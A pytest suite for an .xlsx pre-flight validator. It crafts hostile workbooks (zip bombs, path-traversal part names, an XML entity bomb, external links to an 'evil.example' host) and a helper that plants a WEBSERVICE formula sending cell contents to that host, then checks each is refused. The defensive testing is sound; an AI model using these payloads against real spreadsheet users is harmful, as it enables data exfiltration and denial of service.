"""Pre-flight of .xlsx files: every hostile or broken file is refused before XML parsing."""

from __future__ import annotations

import datetime as dt
import os
import zipfile
import zlib
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.comments import Comment

from labregistry.errors import DomainError
from labregistry.xlsx import preflight
from labregistry.xlsx.preflight import checked_bytes, ensure_defusedxml

pytestmark = pytest.mark.engine_independent  # never opens the pass's database


def refused(path: Path, code: str, **kwargs: Any) -> DomainError:
    with pytest.raises(DomainError) as info:
        checked_bytes(path, **kwargs)
    err = info.value
    assert err.code == code, err.render("en")
    # every refusal names the file, in both languages
    assert str(path) in err.render("en")
    assert str(path) in err.render("zh")
    return err


def plain_workbook(path: Path) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "计量标准 Standards"
    ws.append(["证书编号 Certificate No.", "有效期 Valid until"])
    ws.append(["JJG-2024-001", dt.date(2026, 5, 1)])
    wb.save(path)
    return path


@pytest.fixture
def good(tmp_path: Path) -> Path:
    return plain_workbook(tmp_path / "good.xlsx")


def with_parts(good: Path, tmp_path: Path, name: str, extra: dict[str, bytes], ziptools: Any) -> Path:
    parts = ziptools.parts(good)
    parts.update(extra)
    return ziptools.rezip(parts, tmp_path / name)


# ---------------------------------------------------------------- accepted files


def test_accepts_openpyxl_workbooks(tmp_path: Path, good: Path) -> None:
    checked_bytes(good)
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("S")
    ws.append(["a", 1, 2.5, dt.datetime(2024, 1, 2, 3, 4, 5)])
    wb.save(tmp_path / "wo.xlsx")
    checked_bytes(tmp_path / "wo.xlsx")
    # comments (openpyxl writes xl/comments/comment1.xml and a commentsDrawing vml)
    wb = openpyxl.load_workbook(good)
    wb.active["A1"].comment = Comment("注释 note", "审核员")
    wb.save(tmp_path / "comments.xlsx")
    checked_bytes(tmp_path / "comments.xlsx")
    assert checked_bytes(good) == good.read_bytes()


@pytest.fixture(scope="module")
def lo_saved(tmp_path_factory: pytest.TempPathFactory, lo_convert: Any) -> dict[str, Path]:
    """Workbooks opened and saved by LibreOffice: plain, with comments, with a print area and filter."""
    src = tmp_path_factory.mktemp("lo-src")
    plain = plain_workbook(src / "plain.xlsx")
    wb = openpyxl.load_workbook(plain)
    ws = wb.active
    ws["A2"].comment = Comment("请核对 please check", "审核员")
    ws.auto_filter.ref = "A1:B2"
    ws.print_area = "A1:B2"
    ws.freeze_panes = "A2"
    wb.create_sheet("第二页 Second")["A1"] = "x"
    wb.save(src / "comments.xlsx")
    wb = openpyxl.load_workbook(plain)
    wb.active["C2"] = "link"
    wb.active["C2"].hyperlink = "https://example.com/certificate/1"
    wb.save(src / "hyperlink.xlsx")
    out = lo_convert([src / "plain.xlsx", src / "comments.xlsx", src / "hyperlink.xlsx"], src / "out")
    return {p.stem: p for p in out}


def test_accepts_libreoffice_saved_workbooks(lo_saved: dict[str, Path]) -> None:
    for name in ("plain", "comments"):
        checked_bytes(lo_saved[name])
        checked_bytes(lo_saved[name], kind="ledger")
    names = set(zipfile.ZipFile(lo_saved["comments"]).namelist())
    # what LibreOffice adds for a workbook with comments: all on the allow-list
    assert "docProps/custom.xml" in names
    assert any(n.startswith("xl/worksheets/_rels/") for n in names)
    assert any(n.startswith("xl/drawings/vmlDrawing") for n in names)


def test_hyperlinks_allowed_in_ledgers_only(lo_saved: dict[str, Path]) -> None:
    checked_bytes(lo_saved["hyperlink"], kind="ledger")
    err = refused(lo_saved["hyperlink"], "xlsx.external_target")
    assert "https://example.com/certificate/1" in err.render("en")


# ---------------------------------------------------------------- not a workbook


def test_refuses_random_bytes(tmp_path: Path) -> None:
    path = tmp_path / "random.xlsx"
    path.write_bytes(os.urandom(5000))
    refused(path, "xlsx.not_zip")


def test_refuses_empty_and_missing_files(tmp_path: Path) -> None:
    path = tmp_path / "empty.xlsx"
    path.write_bytes(b"")
    refused(path, "xlsx.empty")
    refused(tmp_path / "nope.xlsx", "xlsx.not_found")


def test_refuses_old_xls_and_encrypted_workbooks(tmp_path: Path) -> None:
    path = tmp_path / "old.xls"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000))
    refused(path, "xlsx.old_format")


# real files LibreOffice wrote (tests/ledger/institute_ledgers.py, make_old_format_files)
OLD_XLS = Path(__file__).parents[1] / "ledger" / "files" / "企业最高计量标准.xls"
ODS = Path(__file__).parents[1] / "ledger" / "files" / "县所人员.ods"


def test_an_ods_or_xls_file_is_named_for_what_it_is_with_the_way_out(tmp_path: Path) -> None:
    """LibreOffice's own format (.ods) was refused as lacking "[Content_Types].xml", and an
    Excel 97-2003 workbook as "an old .xls or a password-protected one": each is named for
    what it is, whatever the file's name, with what to do: a ledger is saved as .xlsx, a
    bundle is asked for as it was sent (tests/exchange/test_saved_as_ods_or_xls.py)."""
    folder = tmp_path / "数据 #1"
    folder.mkdir()
    for source, code, zh, en in (
            (ODS, "xlsx.opendocument", "OpenDocument 表格（.ods，LibreOffice 的自有格式）",
             "an OpenDocument spreadsheet (.ods, LibreOffice's own format)"),
            (OLD_XLS, "xlsx.old_xls", "旧版 Excel 97-2003 工作簿（.xls）", "an old Excel 97-2003 workbook (.xls)")):
        for name in (source.name, "台账 2024.xlsx"):
            path = folder / name
            path.write_bytes(source.read_bytes())
            err = refused(path, code, kind="ledger")
            assert zh in err.render("zh") and "另存为 Excel 工作簿（.xlsx）" in err.render("zh"), err.render("zh")
            assert en in err.render("en") and "save it as an Excel workbook (.xlsx)" in err.render("en")
            assert "Content_Types" not in err.render("en") and "password" not in err.render("en")
            err = refused(path, f"{code}_bundle", kind="bundle")
            assert zh in err.render("zh") and "请使用对方发来的原 .xlsx 文件" in err.render("zh"), err.render("zh")
            assert en in err.render("en") and "use the .xlsx file as it was sent" in err.render("en")


def test_refuses_truncated_zip(tmp_path: Path, good: Path) -> None:
    data = good.read_bytes()
    for cut in (len(data) // 2, len(data) - 10, 100):
        path = tmp_path / f"cut{cut}.xlsx"
        path.write_bytes(data[:cut])
        refused(path, "xlsx.corrupt")


def test_refuses_corrupted_entry(tmp_path: Path, good: Path) -> None:
    data = bytearray(good.read_bytes())
    info = zipfile.ZipFile(good).getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + 5
    data[start : start + 8] = bytes(b ^ 0x55 for b in data[start : start + 8])
    path = tmp_path / "flipped.xlsx"
    path.write_bytes(bytes(data))
    refused(path, "xlsx.corrupt")


def test_refuses_zip_that_is_not_a_workbook(tmp_path: Path) -> None:
    path = tmp_path / "notes.xlsx"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("hello.txt", "hello")
    refused(path, "xlsx.not_workbook")
    docx = tmp_path / "letter.xlsx"
    with zipfile.ZipFile(docx, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", "<w:document/>")
    refused(docx, "xlsx.not_workbook")


def test_refuses_non_regular_files(tmp_path: Path) -> None:
    folder = tmp_path / "folder.xlsx"
    folder.mkdir()
    refused(folder, "xlsx.not_regular_file")
    if hasattr(os, "mkfifo"):
        fifo = tmp_path / "fifo.xlsx"
        os.mkfifo(fifo)
        refused(fifo, "xlsx.not_regular_file")  # and does not hang waiting for a writer


def test_refuses_files_over_the_size_cap(good: Path) -> None:
    err = refused(good, "xlsx.too_large", max_bytes=1000)
    assert "1000" in err.render("en")


# ---------------------------------------------------------------- bombs


def test_refuses_zip_bomb_by_declared_ratio(tmp_path: Path, good: Path, ziptools: Any) -> None:
    raw, crc = ziptools.zero_bomb(1 << 30)  # 1 GiB of zeros in about 1 MiB
    entries = [(n, ziptools.deflate(d), zlib.crc32(d), len(d)) for n, d in ziptools.parts(good).items()]
    entries.append(("xl/sharedStrings.xml", raw, crc, 1 << 30))
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(ziptools.craft_zip(entries))
    err = refused(path, "xlsx.compression_ratio")
    assert "xl/sharedStrings.xml" in err.render("en")


def test_refuses_bomb_over_the_total_budget(tmp_path: Path, good: Path, ziptools: Any) -> None:
    # ratio allowed (so the header check passes) but the total is over the cap
    parts = ziptools.parts(good)
    parts["xl/sharedStrings.xml"] = os.urandom(3 << 20)
    path = ziptools.rezip(parts, tmp_path / "big.xlsx")
    refused(path, "xlsx.too_much_data", max_uncompressed=2 << 20)


def test_lying_sizes_are_caught_while_reading(tmp_path: Path, good: Path, ziptools: Any) -> None:
    """A central directory that understates sizes: the streaming read does not believe it."""
    raw, crc = ziptools.zero_bomb(64 << 20)
    entries = [(n, ziptools.deflate(d), zlib.crc32(d), len(d)) for n, d in ziptools.parts(good).items()]
    # declares 4 KiB (ratio looks harmless), holds 64 MiB
    entries.append(("xl/sharedStrings.xml", raw, crc, 4096))
    path = tmp_path / "liar.xlsx"
    path.write_bytes(ziptools.craft_zip(entries))
    refused(path, "xlsx.corrupt")


def test_streaming_budget_is_enforced(tmp_path: Path, good: Path, ziptools: Any) -> None:
    # honest headers, but the budget is smaller than the content: refused during the read
    data = b"<sst>" + b"x" * (3 << 20) + b"</sst>"
    entries = [(n, ziptools.deflate(d), zlib.crc32(d), len(d)) for n, d in ziptools.parts(good).items()]
    entries.append(("xl/sharedStrings.xml", ziptools.deflate(data), zlib.crc32(data), len(data)))
    path = tmp_path / "budget.xlsx"
    path.write_bytes(ziptools.craft_zip(entries))
    with pytest.raises(DomainError) as info:
        preflight.preflight_bytes(path.read_bytes(), name=str(path), max_uncompressed=1 << 20, max_ratio=10**6)
    assert info.value.code == "xlsx.too_much_data"


def test_refuses_too_many_entries(tmp_path: Path, good: Path, ziptools: Any) -> None:
    extra = {f"docProps/custom{i}.xml": b"<x/>" for i in range(preflight.MAX_ENTRIES)}
    path = with_parts(good, tmp_path, "many.xlsx", extra, ziptools)
    refused(path, "xlsx.too_many_entries")


def test_refuses_duplicate_entries(tmp_path: Path, good: Path, ziptools: Any) -> None:
    parts = ziptools.parts(good)
    entries = [(n, ziptools.deflate(d), zlib.crc32(d), len(d)) for n, d in parts.items()]
    sheet = parts["xl/worksheets/sheet1.xml"]
    entries.append(("xl/worksheets/sheet1.xml", ziptools.deflate(sheet), zlib.crc32(sheet), len(sheet)))
    path = tmp_path / "dup.xlsx"
    path.write_bytes(ziptools.craft_zip(entries))
    refused(path, "xlsx.corrupt")


# ---------------------------------------------------------------- dangerous parts


@pytest.mark.parametrize(
    ("part", "code"),
    [
        ("xl/vbaProject.bin", "xlsx.macros"),
        ("xl/macrosheets/sheet1.xml", "xlsx.macros"),
        ("xl/externalLinks/externalLink1.xml", "xlsx.external_link"),
        ("xl/embeddings/oleObject1.bin", "xlsx.embedded_object"),
        ("xl/activeX/activeX1.xml", "xlsx.embedded_object"),
        ("xl/connections.xml", "xlsx.data_connection"),
        ("xl/queryTables/queryTable1.xml", "xlsx.data_connection"),
        ("xl/unknown/thing.xml", "xlsx.unknown_part"),
        ("xl/charts/chart1.xml", "xlsx.unknown_part"),
        ("readme.txt", "xlsx.unknown_part"),
    ],
)
def test_refuses_dangerous_and_unknown_parts(
    tmp_path: Path, good: Path, ziptools: Any, part: str, code: str
) -> None:
    path = with_parts(good, tmp_path, "bad.xlsx", {part: b"<x/>"}, ziptools)
    err = refused(path, code)
    assert part in err.render("en")
    assert part in err.render("zh")


def test_refuses_bad_part_names(tmp_path: Path, good: Path, ziptools: Any) -> None:
    for name in ("../evil.xml", "/abs.xml", "xl\\worksheets\\sheet9.xml", "xl//sheet.xml"):
        parts = ziptools.parts(good)
        entries = [(n, ziptools.deflate(d), zlib.crc32(d), len(d)) for n, d in parts.items()]
        entries.append((name, ziptools.deflate(b"<x/>"), zlib.crc32(b"<x/>"), 4))
        path = tmp_path / "names.xlsx"
        path.write_bytes(ziptools.craft_zip(entries))
        refused(path, "xlsx.bad_part_name")


def test_refuses_macro_content_type(tmp_path: Path, good: Path, ziptools: Any) -> None:
    parts = ziptools.parts(good)
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    path = ziptools.rezip(parts, tmp_path / "xlsm.xlsx")
    refused(path, "xlsx.macros")


def test_refuses_external_relationship_targets(tmp_path: Path, good: Path, ziptools: Any) -> None:
    parts = ziptools.parts(good)
    rels = parts["xl/_rels/workbook.xml.rels"]
    parts["xl/_rels/workbook.xml.rels"] = rels.replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/externalLinkPath" Target="file:///C:/secret/book.xlsx" TargetMode="External"/>'
        b"</Relationships>",
    )
    path = ziptools.rezip(parts, tmp_path / "ext.xlsx")
    err = refused(path, "xlsx.external_target")
    assert "file:///C:/secret/book.xlsx" in err.render("en")
    # even without TargetMode: a URL target is external
    parts["xl/_rels/workbook.xml.rels"] = rels.replace(
        b"</Relationships>",
        b'<Relationship Id="rId98" Type="x" Target="https://evil.example/x.xml"/></Relationships>',
    )
    refused(ziptools.rezip(parts, tmp_path / "ext2.xlsx"), "xlsx.external_target")


def test_worksheet_relationships_only_to_comments(tmp_path: Path, good: Path, ziptools: Any) -> None:
    parts = ziptools.parts(good)
    parts["xl/worksheets/_rels/sheet1.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="x" Target="../styles.xml"/></Relationships>'
    )
    err = refused(ziptools.rezip(parts, tmp_path / "rel.xlsx"), "xlsx.bad_relationship")
    assert "xl/styles.xml" in err.render("en")
    parts["xl/worksheets/_rels/sheet1.xml.rels"] = parts["xl/worksheets/_rels/sheet1.xml.rels"].replace(
        b"../styles.xml", b"../../../../etc/passwd"
    )
    refused(ziptools.rezip(parts, tmp_path / "rel2.xlsx"), "xlsx.bad_relationship")


def test_refuses_dtd_and_entities(tmp_path: Path, good: Path, ziptools: Any) -> None:
    parts = ziptools.parts(good)
    sheet = parts["xl/worksheets/sheet1.xml"]
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
    )
    parts["xl/worksheets/sheet1.xml"] = bomb + sheet.split(b"?>", 1)[-1]
    err = refused(ziptools.rezip(parts, tmp_path / "dtd.xlsx"), "xlsx.dtd")
    assert "xl/worksheets/sheet1.xml" in err.render("en")


def test_refuses_utf16_xml_parts(tmp_path: Path, good: Path, ziptools: Any) -> None:
    parts = ziptools.parts(good)
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].decode("utf-8").encode("utf-16")
    refused(ziptools.rezip(parts, tmp_path / "u16.xlsx"), "xlsx.corrupt")


# ---------------------------------------------------------------- defusedxml


def test_defusedxml_is_active() -> None:
    ensure_defusedxml()
    assert openpyxl.xml.DEFUSEDXML is True


def test_missing_defusedxml_refuses_everything(monkeypatch: pytest.MonkeyPatch, good: Path) -> None:
    monkeypatch.setattr(openpyxl.xml, "DEFUSEDXML", False)
    with pytest.raises(DomainError) as info:
        ensure_defusedxml()
    assert info.value.code == "xlsx.no_defusedxml"
    assert "defusedxml" in info.value.render("en")
    with pytest.raises(DomainError) as info:
        checked_bytes(good)
    assert info.value.code == "xlsx.no_defusedxml"


def test_plain_etree_parser_under_openpyxl_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    import xml.etree.ElementTree as ET

    import openpyxl.xml.functions as functions

    monkeypatch.setattr(functions, "iterparse", ET.iterparse)
    with pytest.raises(DomainError) as info:
        ensure_defusedxml()
    assert info.value.code == "xlsx.no_defusedxml"


# ---------------------------------------------------------------- bundle-only refusals (fuzz suite)


def with_rules(path: Path, *, validation: bool = False, formatting: bool = False) -> Path:
    """``path`` with a data validation and/or a conditional format whose formulas Excel runs."""
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.worksheet.datavalidation import DataValidation

    wb = openpyxl.load_workbook(path)
    ws = wb.active
    if validation:
        rule = DataValidation(type="custom", formula1='ISNUMBER(WEBSERVICE("http://evil.example/?"&A2))')
        rule.add("A2")
        ws.add_data_validation(rule)
    if formatting:
        ws.conditional_formatting.add("A2", FormulaRule(formula=['WEBSERVICE("http://evil.example/?"&A2)<>""']))
    out = path.with_name(f"rules-{validation}-{formatting}.xlsx")
    wb.save(out)
    return out


def test_conditional_formats_and_data_validation_are_refused_in_bundles_only(good: Path) -> None:
    """Their formulas run when Excel shows the sheet, and they sit outside every cell, so
    no digest sees them: a bundle refuses them, an institute's own ledger keeps them."""
    validation = with_rules(good, validation=True)
    formatting = with_rules(good, formatting=True)
    err = refused(validation, "xlsx.data_validation")
    assert "xl/worksheets/sheet1.xml" in err.render("en")
    refused(formatting, "xlsx.conditional_format")
    for path in (validation, formatting):
        checked_bytes(path, kind="ledger")


def test_rule_elements_are_found_across_chunks_and_in_any_namespace(tmp_path: Path, good: Path,
                                                                    ziptools: Any) -> None:
    """The scan reads parts in chunks of 256 KiB: an element name cut in two, or behind a
    long namespace prefix, is still found; the same word in a cell's text is not an element."""
    parts = ziptools.parts(good)
    sheet = parts["xl/worksheets/sheet1.xml"]
    word = b"<t>dataValidation conditionalFormatting x:dataValidation is plain text</t>"
    text_only = sheet.replace(b"</sheetData>", b'<row r="9"><c r="A9" t="inlineStr"><is>' + word
                              + b"</is></c></row></sheetData>")
    parts["xl/worksheets/sheet1.xml"] = text_only
    checked_bytes(ziptools.rezip(parts, tmp_path / "text.xlsx"))
    prefix = b"x" * 200
    for name, element in (("cut", b"<conditionalFormatting/>"),
                          ("prefixed", b"<" + prefix + b':dataValidations xmlns:' + prefix + b'="urn:x"/>')):
        at = sheet.index(b"</worksheet>")
        pad = (256 * 1024 - at - 12) % (256 * 1024)  # the name starts a few bytes before the boundary
        body = sheet[:at] + b"<!--" + b" " * max(pad - 7, 0) + b"-->" + element + sheet[at:]
        parts["xl/worksheets/sheet1.xml"] = body
        code = "xlsx.conditional_format" if b"conditional" in element else "xlsx.data_validation"
        refused(ziptools.rezip(parts, tmp_path / f"{name}.xlsx"), code)


@pytest.mark.parametrize("encoding", ["ISO-8859-1", "latin1", "US-ASCII", "GB18030", "UTF-16"])
def test_declared_encodings_other_than_utf8_are_refused_in_bundles(tmp_path: Path, good: Path, ziptools: Any,
                                                                   encoding: str) -> None:
    """docs/bundle-format.md: UTF-8 only. expat reads ISO-8859-1 and any 8-bit encoding
    Python has a codec for, so a bundle re-encoded as Latin-1 was read; ledgers still are."""
    parts = ziptools.parts(good)
    body = parts["xl/worksheets/sheet1.xml"].split(b"?>", 1)[-1]
    parts["xl/worksheets/sheet1.xml"] = f"<?xml version='1.0' encoding='{encoding}'?>".encode() + body
    path = ziptools.rezip(parts, tmp_path / "encoded.xlsx")
    err = refused(path, "xlsx.not_utf8")
    assert encoding in err.render("en") and "xl/worksheets/sheet1.xml" in err.render("zh")
    if encoding in ("ISO-8859-1", "latin1", "US-ASCII"):  # what expat reads (the body is ASCII)
        checked_bytes(path, kind="ledger")


def test_utf8_declared_in_any_spelling_is_accepted(tmp_path: Path, good: Path, ziptools: Any) -> None:
    parts = ziptools.parts(good)
    body = parts["xl/worksheets/sheet1.xml"].split(b"?>", 1)[-1]
    for decl in (b'<?xml version="1.0" encoding="utf-8"?>', b"<?xml version='1.0' encoding = 'UTF-8' ?>",
                 b'\xef\xbb\xbf<?xml version="1.0" standalone="yes"?>', b""):
        parts["xl/worksheets/sheet1.xml"] = decl + body
        checked_bytes(ziptools.rezip(parts, tmp_path / "utf8.xlsx"))


# ---------------------------------------------------------------- reading the file


def test_reading_a_file_allocates_about_its_size(good: Path, tmp_path: Path) -> None:
    """read(MAX_BYTES + 1) allocated 100 MiB for every file, whatever its size."""
    import tracemalloc

    from labregistry.files import read_capped

    tracemalloc.start()
    try:
        assert preflight.read_limited(good) == good.read_bytes()
        assert read_capped(good, preflight.MAX_BYTES) == good.read_bytes()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 4 * good.stat().st_size + (1 << 20), f"{peak} bytes traced for a {good.stat().st_size} byte file"


def test_read_at_most_stops_one_byte_past_the_limit_whatever_the_size_said() -> None:
    import io

    from labregistry.files import read_at_most

    data = bytes(range(256)) * 40_000  # about 10 MiB: several chunks
    for hint in (None, 0, 10, len(data), len(data) * 2):
        assert read_at_most(io.BytesIO(data), len(data), hint) == data  # a file that grew, or shrank
        assert read_at_most(io.BytesIO(data), 5000, hint) == data[:5001]
    assert read_at_most(io.BytesIO(b""), 10, 0) == b""
